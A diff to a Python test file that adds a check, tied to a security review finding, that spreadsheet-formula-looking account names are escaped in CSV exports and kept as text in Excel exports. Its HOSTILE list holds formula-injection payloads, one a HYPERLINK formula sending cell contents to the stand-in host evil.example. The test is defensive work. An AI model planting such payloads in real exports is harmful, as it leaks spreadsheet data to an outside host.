@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -236,6 +237,31 @@ def test_export_holds_the_filtered_accounts(
     sheet = load_workbook(io.BytesIO(everyone.content)).active
     assert sheet is not None
     assert sheet.max_row == 6  # header + 5 accounts
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\tx=1"]
+
+
+def test_exports_never_hold_formulas(
+    web: TestClient, sign_in: SignIn, sessions: sessionmaker[Session]
+) -> None:
+    """Security review F6: names that look like formulas stay text in CSV and Excel."""
+    sign_in(Role.ADMIN)
+    names = HOSTILE
+    with sessions() as s:
+        for n, name in enumerate(names):
+            s.add(Account(external_id=f"F{n}", name=name, custom_fields={}))
+        s.commit()
+    text = web.get("/accounts/export?format=csv&mine=0").content.decode("utf-8-sig")
+    cells = {row[0]: row[1] for row in csv.reader(io.StringIO(text))}
+    assert [cells[f"F{n}"] for n in range(len(names))] == ["'" + name for name in names]
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(web.get("/accounts/export?format=xlsx&mine=0").content)).active
+    assert sheet is not None
+    stored = {r[0].value: r[1] for r in sheet.iter_rows(min_row=2)}
+    assert [stored[f"F{n}"].value for n in range(len(names))] == names  # as written
+    assert {stored[f"F{n}"].data_type for n in range(len(names))} == {"s"}  # none a formula
 
 
 def test_saved_views_keep_the_filters(
